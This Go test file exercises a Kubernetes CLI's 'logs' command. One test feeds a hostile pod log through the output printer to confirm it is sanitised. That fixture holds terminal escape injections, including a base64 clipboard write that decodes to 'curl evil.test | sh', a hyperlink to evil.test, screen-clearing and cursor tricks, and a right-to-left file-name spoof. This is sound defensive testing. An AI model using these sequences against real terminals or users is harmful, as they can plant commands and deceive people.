package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spf13/pflag"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/fleetdeck/fleetdeck/config"
	"github.com/fleetdeck/fleetdeck/kube/logs"
)

// Golden files are rewritten with: go test ./cli -run TestLogs -update

func TestLogsFlagErrors(t *testing.T) {
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"no app", []string{"logs"}, "logs takes one application name, got 0 arguments"},
		{"two apps", []string{"logs", "a", "b"}, "logs takes one application name, got 2 arguments"},
		{"output", []string{"logs", "a", "-o", "yaml"}, `unknown output "yaml" (want text or json)`},
		{"pod regex", []string{"logs", "a", "--pod", "("}, `--pod "(": error parsing regexp`},
		{"container regex", []string{"logs", "a", "-c", "[z-a]"}, `--container "[z-a]": error parsing regexp`},
		{"grep regex", []string{"logs", "a", "--grep", "*x"}, `--grep "*x": error parsing regexp`},
		{"since", []string{"logs", "a", "--since", "-1m"}, "--since must not be negative"},
		{"tail", []string{"logs", "a", "--tail", "-2"}, "--tail must be -1 (all) or more, got -2"},
		{"previous and follow", []string{"logs", "a", "--previous", "-f"}, "--previous reads a finished log"},
		{"max streams", []string{"logs", "a", "--max-log-requests", "0"}, "--max-log-requests must be positive"},
		{"unknown cluster", []string{"logs", "a", "--cluster", "mars", "--config", "testdata/config/unknown-reference.yaml"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			streams := &IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut, Getenv: testEnv(t)}
			code := Main(streams, tt.args)
			if code != ExitError {
				t.Errorf("exit %d, want %d; stderr %q", code, ExitError, errOut.String())
			}
			if !strings.Contains(errOut.String(), tt.want) {
				t.Errorf("stderr %q does not say %q", errOut.String(), tt.want)
			}
			if out.Len() > 0 {
				t.Errorf("stdout %q, want nothing", out.String())
			}
		})
	}
}

// TestLogsUnreachableCluster runs the verb on a config whose only cluster does not answer: it
// says so once and exits 1 (the application cannot be found), within the timeout.
func TestLogsUnreachableCluster(t *testing.T) {
	dir, cfg := copyWithKubeconfig(t, "unreachable", "unreachable.kubeconfig", "https://"+freePort(t))
	cache := t.TempDir()
	env := testEnv(t)
	getenv := func(k string) string {
		if k == "XDG_CACHE_HOME" {
			return cache
		}
		return env(k)
	}
	start := time.Now()
	got := runCLI(t, getenv, "logs", "payments-api", "--config", cfg, "--timeout", "1s")
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %s with a 1s timeout", d)
	}
	got = regexp.MustCompile(`(?m)is unreachable: .*;`).ReplaceAllString(got, "is unreachable: ERROR;")
	checkGoldenIn(t, "logs", "unreachable", stabilize(got, dir))
}

// sampleEntries are what a run could deliver, in a fixed order.
func sampleEntries() []logs.Entry {
	ts := time.Date(2026, 3, 1, 12, 0, 0, 123_000_000, time.UTC)
	eu := logs.Source{Cluster: "prod-eu", Namespace: "payments", Pod: "payments-api-7d9c5-x7k2p", Container: "payments-api"}
	us := logs.Source{Cluster: "prod-us", Namespace: "payments", Pod: "payments-api-7d9c5-q2w8z", Container: "payments-api"}
	return []logs.Entry{
		{Kind: logs.KindStart, Source: eu},
		{Kind: logs.KindLine, Source: eu, Time: ts, Text: `INFO payments-api request_id=a1 path=/pay status=200`},
		{Kind: logs.KindNotice, Source: logs.Source{Cluster: "staging"}, Problem: true, Text: "cluster staging: may not read pod logs (namespace payments: forbidden): its logs are not shown"},
		{Kind: logs.KindStart, Source: us},
		{Kind: logs.KindLine, Source: us, Time: ts.Add(time.Second), Text: `{"level":"error","msg":"card declined","status":502}`},
		{Kind: logs.KindLine, Source: eu, Text: "a line without timestamp"},
		{Kind: logs.KindLine, Source: us, Time: ts.Add(2 * time.Second), Text: "xxxx" + logs.CutMarker(1048572), Cut: 1048572},
		{Kind: logs.KindNotice, Text: "cluster prod-us: reading logs again"},
		{Kind: logs.KindEnd, Source: us, Text: "pod gone"},
	}
}

func feed(es []logs.Entry) <-chan logs.Entry {
	ch := make(chan logs.Entry, len(es))
	for _, e := range es {
		ch <- e
	}
	close(ch)
	return ch
}

func TestLogsPrinter(t *testing.T) {
	cfg := &config.Config{Clusters: []config.Cluster{{Name: "prod-eu", Color: "#5f87ff"}, {Name: "prod-us", Color: "170"}, {Name: "staging"}}}
	tests := []struct {
		name   string
		args   []string
		colour bool
	}{
		{name: "text", args: nil},
		{name: "timestamps", args: []string{"--timestamps"}},
		{name: "json", args: []string{"-o", "json"}},
		{name: "grep", args: []string{"--grep", "status=[0-9]+|declined"}},
		{name: "colour", args: nil, colour: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			opts := &logsOptions{}
			fs := pflag.NewFlagSet("logs", pflag.ContinueOnError)
			opts.bind(fs)
			if err := fs.Parse(tt.args); err != nil {
				t.Fatal(err)
			}
			run, err := opts.validate("payments-api")
			if err != nil {
				t.Fatal(err)
			}
			var out, errOut bytes.Buffer
			streams := &IOStreams{Out: &out, ErrOut: &errOut, OutIsTerminal: tt.colour, ErrIsTerminal: tt.colour}
			p := newLogPrinter(streams, newLogColours(cfg, tt.colour), newLogColours(cfg, tt.colour), run)
			if err := p.print(context.Background(), feed(sampleEntries()), func() {}); err != nil {
				t.Fatal(err)
			}
			if !p.problems {
				t.Error("a problem notice did not mark the run")
			}
			got := out.String() + "--- stderr\n" + errOut.String()
			if tt.colour {
				got = strings.ReplaceAll(got, "\x1b", `\e`)
			}
			checkGoldenIn(t, "logs", "print-"+tt.name, got)
		})
	}
}

func TestLogsJSONLines(t *testing.T) {
	run, err := (&logsOptions{Output: "json", Timeout: time.Second, MaxStreams: 1, Tail: -1}).validate("payments-api")
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	p := newLogPrinter(&IOStreams{Out: &out, ErrOut: &bytes.Buffer{}}, logColours{}, logColours{}, run)
	if err := p.print(context.Background(), feed(sampleEntries()), func() {}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines, want 4:\n%s", len(lines), out.String())
	}
	for _, l := range lines {
		var j logJSON
		if err := json.Unmarshal([]byte(l), &j); err != nil {
			t.Fatalf("not JSON: %q: %v", l, err)
		}
		if j.Cluster == "" || j.Pod == "" || j.Container == "" || j.Namespace == "" || j.Message == "" {
			t.Errorf("incomplete line %+v", j)
		}
	}
}

// hostileLog is a pod log of lines written to take over a terminal, with timestamps as the
// API server sends them.
var hostileLog = []string{
	"\x1b]0;you have been pwned\x07title",
	"copy \x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07done",
	"\x1b]8;;https://evil.test/\x1b\\click me\x1b]8;;\x1b\\",
	"ok\x1b[1A\x1b[2K\x1b[10;1Hover",
	"\x1b[2J\x1b[H\x1b[3Jcleared",
	"\x1bP+q544e\x1b\\dcs \u009b2J \u009d52;c;AAAA\u009c",
	"INFO all good\rERROR overwritten",
	"secret\b\b\b\b\b\bpublic",
	"invoice\u202Egnp.exe",
	"bad \xff\xfe\xc3 bytes",
	"\x1b]52;c;" + strings.Repeat("A", 1<<20) + "\x07",
	"the end",
}

// TestLogsHostileLines streams a hostile pod log through kube/logs and the printer, in every
// output mode, and checks the bytes that reach standard output: the only escape sequences are
// fleetdeck's own colours (and only on a terminal), and no control character or payload of the
// pod's sequences is left.
func TestLogsHostileLines(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasSuffix(r.URL.Path, "/log") {
			http.NotFound(w, r)
			return
		}
		ts := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
		for i, l := range hostileLog {
			fmt.Fprintf(w, "%s %s\n", ts.Add(time.Duration(i)*time.Millisecond).Format(time.RFC3339Nano), l)
		}
	}))
	defer srv.Close()
	client, err := kubernetes.NewForConfig(&rest.Config{Host: srv.URL})
	if err != nil {
		t.Fatal(err)
	}
	cfg := &config.Config{Clusters: []config.Cluster{{Name: "prod-eu", Color: "#5f87ff"}}}
	sgr := regexp.MustCompile(`\x1b\[[0-9;]*m`)
	for _, mode := range []struct {
		name   string
		opts   logsOptions
		colour bool
	}{
		{"text", logsOptions{Output: "text"}, false},
		{"text on a terminal", logsOptions{Output: "text"}, true},
		{"timestamps", logsOptions{Output: "text", Timestamps: true}, false},
		{"json", logsOptions{Output: "json"}, false},
	} {
		t.Run(mode.name, func(t *testing.T) {
			mode.opts.Timeout, mode.opts.MaxStreams, mode.opts.Tail = time.Second, 1, -1
			run, err := mode.opts.validate("x")
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			updates := make(chan logs.Update, 1)
			updates <- logs.Update{Sources: []logs.Source{{Cluster: "prod-eu", Namespace: "ns", Pod: "evil", Container: "c"}}}
			close(updates)
			entries := logs.Stream(ctx, map[string]kubernetes.Interface{"prod-eu": client}, updates, run.streamOptions())
			var out, errOut bytes.Buffer
			p := newLogPrinter(&IOStreams{Out: &out, ErrOut: &errOut, OutIsTerminal: mode.colour}, newLogColours(cfg, mode.colour), logColours{}, run)
			if err := p.print(ctx, entries, cancel); err != nil {
				t.Fatal(err)
			}
			got := out.String()
			if n := strings.Count(got, "\n"); n != len(hostileLog) {
				t.Fatalf("%d lines out, want %d:\n%.2000q", n, len(hostileLog), got)
			}
			if len(got) > 64<<10 {
				t.Errorf("%d bytes out: the 1 MiB line was not cut", len(got))
			}
			if !strings.Contains(got, "bytes cut]") {
				t.Error("the cut line has no marker")
			}
			if mode.colour && !sgr.MatchString(got) {
				t.Error("no colour on a terminal")
			}
			plain := sgr.ReplaceAllString(got, "")
			if mode.name == "json" {
				// What `jq -r .message` would print must be clean too.
				var b strings.Builder
				for _, l := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
					var j logJSON
					if err := json.Unmarshal([]byte(l), &j); err != nil {
						t.Fatalf("not JSON: %q", l)
					}
					b.WriteString(j.Message + "\n")
				}
				plain = b.String()
			}
			for i, r := range strings.TrimSuffix(plain, "\n") {
				if r == '\n' {
					continue
				}
				if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x202e || r == 0xfffd {
					t.Errorf("control %U at byte %d of output", r, i)
				}
			}
			for _, payload := range []string{"pwned", "Y3VybCBldmlsLnRlc3QgfCBzaA", "evil.test", "AAAA", "\x1b]", "\x1bP"} {
				if strings.Contains(got, payload) {
					t.Errorf("payload %q reached the output", payload)
				}
			}
			for _, want := range []string{"title", "click me", "INFO all good ERROR overwritten", "secretpublic", "invoicegnp.exe", "the end"} {
				if !strings.Contains(plain, want) {
					t.Errorf("visible text %q missing from output", want)
				}
			}
		})
	}
}

func TestSGROf(t *testing.T) {
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"#5f87ff", "38;2;95;135;255", true},
		{"#abc", "38;2;170;187;204", true},
		{"170", "38;5;170", true},
		{"256", "", false},
		{"#12345", "", false},
		{"red", "", false},
		{"", "", false},
	}
	for _, tt := range tests {
		got, ok := sgrOf(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("sgrOf(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}
